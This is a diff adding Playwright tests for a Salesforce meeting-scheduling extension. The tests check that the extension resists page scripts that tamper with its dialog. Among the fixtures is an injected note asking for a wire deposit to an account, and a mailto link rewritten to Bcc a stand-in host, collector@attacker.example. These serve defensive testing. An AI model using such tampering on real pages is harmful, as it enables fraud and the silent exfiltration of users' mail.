@@ -146,3 +146,78 @@ test('Copy join link copies the link the session has, not a value the page wrote
   await panel.getByRole('button', { name: 'Copy join link' }).click();
   expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`https://acme.glance.net/?key=${key}`);
 });
+
+/** The rep schedules a meeting on the Lead through the dialog, with these notes. */
+async function openScheduleDialog(page: Page) {
+  await toolbar(page).getByRole('button', { name: 'Schedule Glance meeting' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Schedule Glance meeting' });
+  await expect(dialog).toBeVisible();
+  await dialog.getByLabel('Invitee email').fill('pat@customer.example');
+  await dialog.getByLabel('Notes').fill('Bring the Q3 numbers.');
+  return dialog;
+}
+
+test('meeting notes rewritten during the press on Schedule: nothing is sent, the rep’s notes come back; pressed again, the Event has them', async ({
+  salesforcePage: page,
+  control,
+}) => {
+  await openLead(page, control);
+  const dialog = await openScheduleDialog(page);
+  await page.evaluate(() => {
+    const root = document.querySelector('[data-glance-sfx="meeting-dialog"]')?.shadowRoot;
+    const notes = root?.querySelector('textarea');
+    const schedule = [...(root?.querySelectorAll('button') ?? [])].find((b) => b.textContent?.trim() === 'Schedule');
+    if (!notes || !schedule) throw new Error('no dialog');
+    schedule.addEventListener('pointerdown', () => {
+      notes.value = 'Wire the deposit to account 0042 today.';
+    });
+  });
+  await dialog.getByRole('button', { name: 'Schedule', exact: true }).click();
+  await expect(dialog.getByLabel('Notes')).toHaveValue('Bring the Q3 numbers.');
+  await expect(dialog.getByText('A script on this page changed this field.')).toBeVisible();
+  const events = async () => (await control.records<{ Description?: string }>('Event')).map((e) => e.Description ?? '');
+  expect((await events()).some((d) => d.includes('0042'))).toBe(false);
+  await dialog.getByRole('button', { name: 'Schedule', exact: true }).click();
+  await expect(dialog.getByText(/^Meeting scheduled/)).toBeVisible();
+  await expect.poll(async () => (await events()).filter((d) => d.includes('Bring the Q3 numbers.')).length).toBe(1);
+  expect((await events()).some((d) => d.includes('0042'))).toBe(false);
+});
+
+test('the Email invitation link rewritten after saving (a Bcc): the mail the rep opens is the meeting’s own', async ({
+  salesforcePage: page,
+  control,
+}) => {
+  await openLead(page, control);
+  const dialog = await openScheduleDialog(page);
+  await dialog.getByRole('button', { name: 'Schedule', exact: true }).click();
+  await expect(dialog.getByText(/^Meeting scheduled/)).toBeVisible();
+  await page.evaluate(() => {
+    const root = document.querySelector('[data-glance-sfx="meeting-dialog"]')?.shadowRoot;
+    const link = root?.querySelector<HTMLAnchorElement>('a[data-action=email]');
+    if (!link) throw new Error('no mail link');
+    link.href = 'mailto:pat@customer.example?bcc=collector@attacker.example&subject=Hi';
+  });
+  const opened = page.context().waitForEvent('request', { predicate: (r) => r.url().startsWith('mailto:') });
+  await dialog.getByRole('link', { name: 'Email invitation' }).click();
+  const url = (await opened).url();
+  expect(url).toMatch(/^mailto:pat@customer\.example\?subject=/);
+  expect(url).not.toContain('bcc');
+  expect(url).not.toContain('attacker');
+});
+
+test('focus moved to Cancel meeting while the rep types: the cancel dialog does not open', async ({
+  salesforcePage: page,
+  control,
+}) => {
+  await openLead(page, control);
+  const dialog = await openScheduleDialog(page);
+  await dialog.getByRole('button', { name: 'Schedule', exact: true }).click();
+  await expect(dialog.getByText(/^Meeting scheduled/)).toBeVisible();
+  await dialog.getByRole('button', { name: 'Close' }).click();
+  await expect(toolbar(page).getByRole('button', { name: 'Cancel meeting' })).toBeVisible();
+  await focusOnTyping(page, 'toolbar', 'Cancel meeting');
+  await page.getByLabel('Page note').click();
+  await page.keyboard.type('ok then');
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  await expect(toolbar(page).getByRole('status')).toHaveText(REFUSED);
+});
